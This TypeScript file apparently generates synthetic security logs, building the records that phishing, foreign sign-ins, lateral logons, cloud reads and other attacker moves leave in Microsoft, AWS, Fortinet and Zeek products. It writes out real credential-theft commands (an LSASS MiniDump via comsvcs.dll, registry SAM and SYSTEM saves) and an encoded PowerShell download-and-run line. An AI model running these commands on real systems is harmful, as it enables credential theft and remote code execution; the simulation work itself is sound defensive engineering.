// Single moves of attackers and administrators as the records that they leave in every product that sees them.
import { cloudTrail } from '../../records/aws.ts';
import { click, mail, type Mail } from '../../records/defender-mail.ts';
import { entraAudit, entraSignIn } from '../../records/entra.ts';
import { traffic, tunnel } from '../../records/fortinet.ts';
import type { Fields, Line, Who } from '../../records/kit.ts';
import { siteFile } from '../../records/microsoft-365.ts';
import { logon, serviceTicket } from '../../records/windows-domain.ts';
import { fileTouched, lsassOpened, processCreated, type Program } from '../../records/windows.ts';
import { connection, encrypted, kerberos, question } from '../../records/zeek.ts';
import { pidOf } from '../background/people.ts';
import { clientPort, deviceOf, outsideAddress, SECOND_MS } from '../stage.ts';
import type { Story } from '../story.ts';
import { CMD, SYSTEM32 } from '../windows-paths.ts';
import type { KnownPlace } from '../world/places.ts';
import { type Person, serverOf, serversOf } from '../world/world.ts';

/** Browsers of attackers, who seldom have the company's. */
const FOREIGN_BROWSERS = ['Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/139.0.0.0 Safari/537.36', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15'];
export const SCRIPTS = ['python-requests/2.32.3', 'axios/1.9.0', 'Go-http-client/2.0', 'node-fetch/1.0'];

/** Where an attacker sits. */
export interface Lair {
  readonly address: string;
  readonly place: KnownPlace;
  readonly browser: string;
}

export const lairOf = (story: Story): Lair => ({ address: story.cast.outside(), place: story.cast.place(), browser: story.dice.one(FOREIGN_BROWSERS) });

export interface Lure extends Omit<Mail, 'to'> {
  readonly to: Person;
}

/** A mail and, some time later, the click on its link. Gives the time of the click. */
export function phish(story: Story, lure: Lure & { readonly url: string }): number {
  const { kit, dice } = story;
  const sentMs = story.now();
  const lines = mail(kit, sentMs, { ...lure, urls: [lure.url] });
  story.step('mail', 'The mail arrives', 'initial-access', lines);
  const networkId = (JSON.parse((lines[0] as Line).raw) as { properties: { NetworkMessageId: string } }).properties.NetworkMessageId;
  const clickMs = story.wait(2, 45);
  story.step('click', 'Its link is opened', 'initial-access', [click(kit, clickMs, { who: lure.to, url: lure.url, address: outsideAddress(story.world, lure.to, clickMs), networkId, isThrough: dice.chance(0.2) })]);
  return clickMs;
}

export interface ForeignSignIn {
  readonly risk?: 'none' | 'low' | 'medium' | 'high';
  readonly app?: string;
  readonly session?: string;
  readonly userAgent?: string;
  readonly isInteractive?: boolean;
}

/** Somebody else signs in as the user. */
export function signInFrom(story: Story, who: Who, { address, place, browser }: Lair, { risk = 'none', app = 'OfficeHome', session, userAgent = browser, isInteractive = true }: ForeignSignIn = {}): Line {
  return entraSignIn(story.kit, story.now(), { who, address, place, app, risk, userAgent, isInteractive, ...(session === undefined ? {} : { session }), client: isInteractive ? 'Browser' : 'Mobile Apps and Desktop clients' });
}

/** The user signs in from where the user works. */
export function signInAtWork(story: Story, who: Person, app = 'OfficeHome'): Line {
  return entraSignIn(story.kit, story.now(), { who, address: outsideAddress(story.world, who, story.now()), place: who.office.place, app, device: deviceOf(who) });
}

export function methodRegistered(story: Story, who: Who, address: string): Line {
  return entraAudit(story.kit, story.now(), { who, address, activity: 'User registered security info', category: 'UserManagement', service: 'Authentication Methods', targets: [{ id: who.id, displayName: who.name, type: 'User', userPrincipalName: who.upn, modifiedProperties: [] }] });
}

export interface Downloads {
  readonly who: Person;
  readonly address: string;
  readonly count: number;
  readonly secondsEach: number;
  readonly userAgent: string;
  readonly folder: string;
  readonly names: readonly string[];
  readonly operation?: string;
}

/** Many files of a site, one after the other; the clock goes on with them. */
export function download(story: Story, { who, address, count, secondsEach, userAgent, folder, names, operation = 'FileDownloaded' }: Downloads): Line[] {
  const { kit, dice } = story;
  const lines = Array.from({ length: count }, (_, i) => siteFile(kit, story.now() + Math.round((i + dice.random() * 0.6) * secondsEach * SECOND_MS), { who, operation, address, site: who.department, folder, file: `${dice.one(names)}-${2021 + (i % 6)}-${i}.${dice.one(['xlsx', 'pdf', 'docx', 'csv'])}`, userAgent }));
  story.goTo((lines.at(-1) as Line).timeMs);
  return lines;
}

export interface Run extends Omit<Program, 'pid' | 'parentPid'> {
  readonly pid?: number;
  readonly parentPid?: number;
}

/** A program starts now. */
export function run(story: Story, { pid = pidOf(story), parentPid = 5_124, ...program }: Run): Line {
  return processCreated(story.kit, story.now(), { pid, parentPid, ...program });
}

/** Programs one after the other on one host, seconds to minutes apart, all started by one. */
export function runAll(story: Story, common: Omit<Run, 'image' | 'commandLine'>, programs: readonly (readonly [image: string, commandLine: string])[]): Line[] {
  const parentPid = common.parentPid ?? pidOf(story);
  return programs.map(([image, commandLine]) => {
    story.wait(0.1, 2);
    return run(story, { ...common, parentPid, image, commandLine });
  });
}

export interface Outflow {
  readonly from: string;
  readonly to: string;
  readonly port: number;
  readonly bytes: number;
  readonly seconds: number;
  readonly fromName?: string;
  /** The name in the handshake; without one it is a connection to a bare address. */
  readonly name?: string;
}

/** A connection to the outside, as Zeek and the firewall see it. */
export function flowOut(story: Story, { from, to, port, bytes, seconds, fromName, name }: Outflow): Line[] {
  const { kit, dice } = story;
  const ms = story.now();
  const flow = { from, fromPort: clientPort(story), to, toPort: port };
  const amounts = { sent: bytes, received: Math.ceil(bytes / 200) + 3_000, seconds };
  const asked = name === undefined ? [] : [question(kit, ms - 300, { ...flow, to: serverOf(story.world, 'controller').address, toPort: 53, name, answers: [to] })];
  return [
    ...asked, connection(kit, ms, { ...flow, ...amounts, service: 'ssl' }), encrypted(kit, ms + 30, name === undefined ? flow : { ...flow, name }),
    traffic(kit, ms + Math.round(seconds * SECOND_MS), { ...flow, ...amounts, seconds: Math.ceil(seconds), session: dice.int(1_000_000, 99_999_999), ...(fromName === undefined ? {} : { fromName }) }),
  ];
}

export interface Reach {
  readonly who: Who;
  readonly from: string;
  readonly to: { readonly name: string; readonly address: string };
  /** 3 network, 10 remote desktop. */
  readonly type?: 3 | 10;
  readonly logonId?: string;
}

/** A logon to another host: ticket, connection and the host's own record. */
export function reach(story: Story, { who, from, to, type = 3, logonId = `0x${story.dice.int(1_000_000, 99_999_999).toString(16)}` }: Reach): Line[] {
  const { kit, dice, world } = story;
  const ms = story.now();
  const [controller, port] = [dice.one(serversOf(world, 'controller')), clientPort(story)];
  const host = to.name.toLowerCase();
  return [
    serviceTicket(kit, ms, { controller: controller.name, who, address: from, port: port - 1, service: `${to.name}$`, serviceSid: `${who.sid.slice(0, who.sid.lastIndexOf('-'))}-1104` }),
    kerberos(kit, ms, { from, fromPort: port - 1, to: controller.address, toPort: 88, kind: 'TGS', account: who.account, service: `${type === 10 ? 'TERMSRV' : 'cifs'}/${host}.${world.org.domain}` }),
    connection(kit, ms + 100, { from, fromPort: port, to: to.address, toPort: type === 10 ? 3389 : 445, service: type === 10 ? 'rdp,ssl' : 'gssapi,smb', seconds: 30 + dice.random() * 300, sent: dice.int(8_000, 90_000), received: dice.int(8_000, 400_000) }),
    logon(kit, ms + 400, { host: to.name, who, address: from, type, port, logonId }),
  ];
}

/** Calls of AWS one after the other. */
export function callAll(story: Story, by: { readonly identity: Fields; readonly address: string; readonly userAgent: string }, calls: readonly (readonly [service: string, name: string, parameters?: Fields | null, answer?: Fields | null])[]): Line[] {
  return calls.map(([service, name, parameters = null, answer = null]) => {
    story.wait(0.1, 1.5);
    return cloudTrail(story.kit, story.now(), { ...by, service, name, parameters, answer, readOnly: /^(?:Get|List|Describe|Head)/.test(name) });
  });
}

/** Objects of a bucket read one after the other; the clock goes on with them. */
export function readBucket(story: Story, by: { readonly identity: Fields; readonly address: string; readonly userAgent: string }, { bucket, count, prefix }: { readonly bucket: string; readonly count: number; readonly prefix: string }): Line[] {
  const { kit, dice } = story;
  const lines = Array.from({ length: count }, (_, i) => cloudTrail(kit, story.now() + i * dice.int(800, 3_000), { ...by, service: 's3', name: 'GetObject', readOnly: true, parameters: { bucketName: bucket, key: `${prefix}/${2024 + (i % 3)}/part-${i}.parquet`, Host: `${bucket}.s3.${kit.org.awsRegion}.amazonaws.com` }, more: { additionalEventData: { bytesTransferredIn: 0, bytesTransferredOut: dice.int(2_000_000, 90_000_000) } } }));
  story.goTo((lines.at(-1) as Line).timeMs);
  return lines.sort((a, b) => a.timeMs - b.timeMs);
}

/** A tunnel of the VPN as the user, from elsewhere. Gives the inner address, which nobody else has that day. */
export function openTunnel(story: Story, who: Who, remote: string): { readonly inner: string; readonly lines: Line[] } {
  const inner = `10.60.${90 + story.dice.int(0, 60)}.${story.dice.int(2, 250)}`;
  return { inner, lines: [tunnel(story.kit, story.now(), { who, remote, inner, id: story.dice.int(100_000_000, 999_999_999), isUp: true })] };
}

/** Passwords are taken out of the memory of LSASS, or out of the registry. */
export function takePasswords(story: Story, { host, who, folder }: { readonly host: string; readonly who: Who; readonly folder: string }): Line[] {
  const { kit, dice } = story;
  const program = { host, who, parentImage: CMD, integrity: 'High' } as const;
  if (dice.chance(0.4)) return ['sam', 'system'].map((hive) => run(story, { ...program, image: `${SYSTEM32}reg.exe`, commandLine: `reg.exe save HKLM\\${hive} ${folder}${hive[0]}.hiv` }));
  const [pid, image, file] = [pidOf(story), `${SYSTEM32}rundll32.exe`, `${folder}${dice.hex(4)}.dmp`];
  const trace = 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\SYSTEM32\\dbgcore.dll+6e3a|C:\\Windows\\System32\\comsvcs.dll+2a1f0';
  return [
    run(story, { ...program, pid, image, commandLine: `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 ${file} full` }),
    lsassOpened(kit, story.now() + 200, { host, who, pid, image, access: '0x1fffff', trace }),
    fileTouched(kit, story.now() + 300, { host, who, pid, image, file }),
  ];
}

/** Code as it stands behind -EncodedCommand. */
export function encodedPowerShell(story: Story, address: string): string {
  const code = `IEX (New-Object Net.WebClient).DownloadString('http://${address}/${story.dice.hex(6)}')`;
  return `powershell.exe -nop -w hidden -enc ${Buffer.from(code, 'utf16le').toString('base64')}`;
}
